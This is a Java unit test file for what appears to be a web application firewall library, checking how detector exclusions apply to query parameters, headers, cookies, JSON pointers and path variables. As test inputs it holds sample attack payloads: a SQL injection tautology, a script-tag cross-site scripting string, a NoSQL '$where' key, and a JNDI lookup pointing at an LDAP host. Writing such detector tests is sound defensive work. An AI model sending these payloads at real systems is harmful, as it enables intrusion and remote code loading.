package dev.portcullis.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import dev.portcullis.Route;
import dev.portcullis.Verdict;
import dev.portcullis.attack.Exclusion.In;
import dev.portcullis.http.RecordedWire;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** What detectors are spared, and nothing beside it. */
class ExclusionsTest {

    private static final String SQL = "1' or '1'='1";
    private static final String ENCODED = "1%27+or+%271%27=%271";
    private static final String SQL_ID = "sql-injection";

    private static Attacks excluding(Exclusion... all) {
        var builder = Attacks.builder();
        List.of(all).forEach(builder::exclude);
        return builder.build();
    }

    private static Exclusion sql(In in, String parameter) {
        return new Exclusion(Set.of(SQL_ID), in, parameter, null, Exclusion.EVERYWHERE);
    }

    private static boolean denies(Attacks attacks, RecordedWire wire) {
        return attacks.check(wire.view()) instanceof Verdict.Deny;
    }

    private static RecordedWire get(String target) {
        return RecordedWire.of("GET", target);
    }

    private static RecordedWire post(String type, String body) {
        return RecordedWire.of("POST", "/a")
                .with("Content-Type", type)
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);
    }

    private static RecordedWire json(String body) {
        return post("application/json", body);
    }

    @Test
    void aPlaceIsExcludedAndNoOther() {
        var query = excluding(sql(In.QUERY, "q"));

        assertThat(denies(query, get("/?q=" + ENCODED))).isFalse();
        assertThat(denies(query, get("/?Q=" + ENCODED))).isTrue();
        assertThat(denies(query, get("/?qq=" + ENCODED))).isTrue();
        assertThat(denies(query, post("application/x-www-form-urlencoded", "q=" + ENCODED)))
                .isTrue();
        assertThat(denies(query, json("{\"q\": \"" + SQL + "\"}"))).isTrue();
        assertThat(denies(query, get("/").with("Cookie", "q=" + ENCODED))).isTrue();
    }

    @Test
    void namesAreNeverExcluded() {
        var all = excluding(Exclusion.unscanned(In.PARAMETERS, Exclusion.ALL));

        assertThat(denies(all, get("/?q=" + ENCODED))).isFalse();
        assertThat(denies(all, get("/?" + ENCODED.replace("=", "%3D") + "=q"))).isTrue();
        assertThat(denies(all, json("{\"$where\": \"1\"}"))).isTrue();
    }

    @Test
    void aHeaderIsExcludedInAnyCase() {
        var header = excluding(sql(In.HEADER, "X-Note"));

        assertThat(denies(header, get("/").with("x-note", SQL))).isFalse();
        assertThat(denies(header, get("/").with("X-Other", SQL))).isTrue();
    }

    @Test
    void aCookieIsExcludedByItsName() {
        var cookie = excluding(sql(In.COOKIE, "prefs"));

        assertThat(denies(cookie, get("/").with("Cookie", "a=b; prefs=" + ENCODED)))
                .isFalse();
        assertThat(denies(cookie, get("/").with("Cookie", "prefs=b; a=" + ENCODED)))
                .isTrue();
    }

    @Test
    void aJsonPointerMeansOnePlace() {
        var pointer = excluding(sql(In.JSON, "/items/*/note"));

        assertThat(denies(pointer, json("{\"items\": [{\"note\": \"a\"}, {\"note\": \"" + SQL + "\"}]}")))
                .isFalse();
        assertThat(denies(pointer, json("{\"note\": \"" + SQL + "\"}"))).isTrue();
        assertThat(denies(pointer, json("{\"items\": [{\"note\": {\"a\": \"" + SQL + "\"}}]}")))
                .isTrue();
        assertThat(denies(pointer, json("{\"items\": [{\"note\": \"a\", \"b\": \"" + SQL + "\"}]}")))
                .isTrue();
        assertThat(denies(pointer, json("{\"items\": [{\"note\": [\"" + SQL + "\"]}]}")))
                .isTrue();
    }

    @Test
    void aJsonPointerFindsItsWayBackAfterEveryMember() {
        var pointer = excluding(sql(In.JSON, "/a~1b/c"));

        assertThat(denies(
                        pointer, json("{\"x\": [[1], {\"y\": \"z\"}], \"a/b\": {\"d\": {}, \"c\": \"" + SQL + "\"}}")))
                .isFalse();
        assertThat(denies(pointer, json("{\"a/b\": {\"c\": \"x\"}, \"c\": \"" + SQL + "\"}")))
                .isTrue();
    }

    @Test
    void anExclusionIsForItsPathsOnly() {
        var scoped = excluding(
                sql(In.QUERY, "q").on(request -> request.path().equals("/comments")), sql(In.QUERY, "everywhere"));

        assertThat(denies(scoped, get("/comments?q=" + ENCODED))).isFalse();
        assertThat(denies(scoped, get("/comments?everywhere=" + ENCODED))).isFalse();
        assertThat(denies(scoped, get("/orders?q=" + ENCODED))).isTrue();
        assertThat(denies(scoped, get("/orders?everywhere=" + ENCODED))).isFalse();
    }

    @Test
    void aVariableOfThePathIsExcludedAndNoOtherSegment() {
        var variable = excluding(Exclusion.unscanned(In.PATH, "title"));
        var route = new Route("notes", "/notes/{title}/{part}", Map.of());

        assertThat(denies(variable, get("/notes/1%27%20or%20%271%27=%271/2").to(route)))
                .isFalse();
        assertThat(denies(variable, get("/notes/2/1%27%20or%20%271%27=%271").to(route)))
                .isTrue();
        assertThat(denies(
                        variable,
                        get("/api/notes/1%27%20or%20%271%27=%271/2")
                                .to(new Route("notes", "/notes/{title}/{part}", Map.of()))))
                .as("a template that is not the path's own excludes nothing")
                .isTrue();
        assertThat(denies(variable, get("/notes/1%27%20or%20%271%27=%271/2"))).isTrue();
    }

    @Test
    void freeTextIsDeniedForCertaintiesOnly() {
        var free = excluding(Exclusion.freeText(In.QUERY, "q"));

        assertThat(denies(free, get("/?q=%3Cscript%20src=a.js%3E"))).isFalse();
        assertThat(denies(free, get("/?q=$%7Bjndi:ldap://203.0.113.7/a%7D"))).isTrue();
        assertThat(denies(free, get("/?r=%3Cscript%20src=a.js%3E"))).isTrue();
    }

    @Test
    void detectorsHaveLevelsOfTheirOwn() {
        var own = Attacks.builder().level("cross-site-scripting", Level.LOW).build();

        assertThat(denies(own, get("/?q=%3Cscript%20src=a.js%3E"))).isFalse();
        assertThat(denies(own, get("/?q=" + ENCODED))).isTrue();
    }

    @Test
    void onlySomeDetectorsLook() {
        var some = Attacks.builder().only(Set.of("jndi-lookup")).build();

        assertThat(denies(some, get("/?q=" + ENCODED))).isFalse();
        assertThat(denies(some, get("/?q=$%7Bjndi:ldap://203.0.113.7/a%7D"))).isTrue();
    }

    @Test
    void saysWhereAndHowSureItIs() {
        var deny = (Verdict.Deny)
                Attacks.builder().build().check(get("/?q=" + ENCODED).view());

        assertThat(deny.evidence().where()).isEqualTo("query parameter `q`");
        assertThat(deny.evidence().score()).isEqualTo(10);
    }

    @Test
    void hidesSecretsFromOperators() {
        for (var name : List.of("password", "newPassword", "user_token", "card.number.pin")) {
            var deny = (Verdict.Deny) Attacks.builder()
                    .build()
                    .check(get("/?" + name + "=" + ENCODED).view());
            assertThat(deny.evidence().detail()).endsWith(": `***`");
        }
        var card = (Verdict.Deny) Attacks.builder()
                .build()
                .check(get("/?q=4111+1111+1111+1111+eyJhbGciOiJIUzI1NiJ9abcdef123+" + ENCODED)
                        .view());
        assertThat(card.evidence().detail())
                .doesNotContain("1111")
                .doesNotContain("eyJ")
                .contains("or '1'");
    }

    @Test
    void namesAllHitsWithTheirPlaces() {
        var body = "{\"a\": [{\"b\": \"" + SQL + "\"}, {\"b\": \"" + SQL + "\"}]}";
        var wire = RecordedWire.of("POST", "/a?q=" + ENCODED)
                .with("Content-Type", "application/json")
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);

        assertThat(Attacks.builder().build().hits(wire.view()))
                .extracting(Hit::detector, Hit::in, Hit::parameter)
                .contains(tuple(SQL_ID, In.QUERY, "q"), tuple(SQL_ID, In.JSON, "/a/*/b"))
                .doesNotHaveDuplicates();
    }

    @Test
    void anExclusionNeedsAParameterThatHasAName() {
        assertThatThrownBy(() -> Exclusion.of(SQL_ID, " "))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("parameter: blank (expected: its name)");
    }
}
